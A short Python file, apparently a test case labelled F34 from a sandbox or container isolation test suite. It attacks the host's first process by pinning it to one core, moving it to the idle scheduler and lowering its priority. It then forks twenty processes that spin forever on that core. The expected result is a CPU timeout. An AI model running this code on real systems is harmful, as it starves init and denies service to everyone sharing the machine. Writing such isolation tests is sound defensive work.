"""F34  Leaves the first process of the box without a processor: lowest priority, a scheduler for idle times, one core that many others use.
EXPECT cpu timed-out
WAY metric
"""
import os

import armed


def attack():
    armed.ran("F34")
    core = {min(os.sched_getaffinity(0))}
    for name, action in (("processors", lambda: os.sched_setaffinity(1, core)), ("scheduler", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))),
                         ("priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)), ("priority of the user", lambda: os.setpriority(os.PRIO_USER, 0, 19)),
                         ("priority of the group", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(1), 19))):
        armed.probe(f"{name} of the first process", lambda: action() is None)
    os.sched_setaffinity(0, core)
    for _ in range(20):
        if os.fork() == 0:
            break
    while True:
        pass
